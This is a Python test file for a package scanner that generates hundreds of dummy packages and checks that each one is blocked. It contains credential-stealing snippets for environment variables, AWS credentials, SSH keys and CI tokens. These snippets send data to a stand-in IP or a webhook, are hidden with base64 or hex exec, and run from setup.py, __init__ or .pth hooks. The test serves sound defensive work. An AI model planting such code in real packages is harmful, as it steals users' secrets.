"""Every combination of what is stolen, how it leaves, how it hides and where it runs.

The sample corpus (`tests/samples`) holds one hand-written package per technique;
this matrix crosses five sources (the whole environment, host facts, the AWS
credentials file, an SSH key, one CI token) with five ways out (requests, urllib,
http.client, a raw socket, a chat webhook), three disguises (none, base64 and
hex around `exec`) and four places that run without being asked (`setup.py`, a
package `__init__`, a module the package imports, a `.pth` start-up hook). All
300 packages are inert text built here; each must be blocked.
"""

from __future__ import annotations

import base64
import itertools
from pathlib import Path

import pytest

from pycustoms.config import Policy
from pycustoms.scan import scan_target
from pycustoms.types import Decision
from tests.builders import build_sdist, build_wheel

SOURCES = {
    "environment": ("import os", "dict(os.environ)"),
    "host facts": (
        "import socket, getpass, platform",
        "{'h': socket.gethostname(), 'u': getpass.getuser(), 'p': platform.platform()}",
    ),
    "aws file": ("import os", "open(os.path.expanduser('~/.aws/credentials')).read()"),
    "ssh key": ("import os", "open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
    "ci token": ("import os", "os.environ.get('GITHUB_TOKEN', '')"),
}
SINKS = {
    "requests": ("import requests", "requests.post('http://198.51.100.17:8080/x', data=str(DATA))"),
    "urllib": (
        "import urllib.request",
        "urllib.request.urlopen('http://198.51.100.17/x', data=str(DATA).encode())",
    ),
    "http.client": (
        "import http.client",
        "c = http.client.HTTPConnection('198.51.100.17'); c.request('POST', '/x', str(DATA))",
    ),
    "socket": (
        "import socket",
        "s = socket.create_connection(('198.51.100.17', 9001)); s.sendall(str(DATA).encode())",
    ),
    "webhook": (
        "import requests",
        "requests.post('https://discord.com/api/webhooks/1234567890123/"
        "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefghijklmnopqrst', json={'content': str(DATA)})",
    ),
}
DISGUISES = ("plain", "base64", "hex")
PLACES = ("setup.py", "__init__", "imported module", ".pth hook")


def _payload(source: str, sink: str, disguise: str) -> str:
    imports, expression = SOURCES[source]
    sink_import, send = SINKS[sink]
    body = (
        f"{imports}\n{sink_import}\ntry:\n    DATA = {expression}\n"
        f"    {send}\nexcept Exception:\n    pass\n"
    )
    if disguise == "base64":
        return f"import base64\nexec(base64.b64decode({base64.b64encode(body.encode())!r}))\n"
    if disguise == "hex":
        return f"exec(bytes.fromhex({body.encode().hex()!r}).decode())\n"
    return body


def _package(directory: Path, place: str, payload: str) -> Path:
    if place == "setup.py":
        setup = payload + "\nfrom setuptools import setup\nsetup(name='matrix')\n"
        return build_sdist(
            directory, "matrix", "1.0", {"setup.py": setup, "matrix/__init__.py": ""}
        )
    if place == "__init__":
        return build_wheel(directory, "matrix", "1.0", {"matrix/__init__.py": payload})
    if place == "imported module":
        files = {"matrix/__init__.py": "from . import core\n", "matrix/core.py": payload}
        return build_wheel(directory, "matrix", "1.0", files)
    files = {
        "matrix/__init__.py": "",
        "matrix_hook.py": payload,
        "matrix.pth": "import matrix_hook\n",
    }
    return build_wheel(directory, "matrix", "1.0", files)


@pytest.mark.parametrize(("source", "sink"), list(itertools.product(SOURCES, SINKS)), ids=str)
def test_every_disguise_and_place_is_blocked(source: str, sink: str, tmp_path: Path) -> None:
    missed = []
    for disguise, place in itertools.product(DISGUISES, PLACES):
        directory = tmp_path / f"{disguise}-{place}".replace(" ", "_").replace(".", "")
        directory.mkdir()
        result = scan_target(_package(directory, place, _payload(source, sink, disguise)), Policy())
        if result.verdict.decision is not Decision.BLOCK:
            rules = sorted({f.rule for f in result.verdict.findings})
            missed.append(f"{disguise} / {place}: {result.verdict.decision.value} {rules}")
    assert not missed, "\n".join(missed)
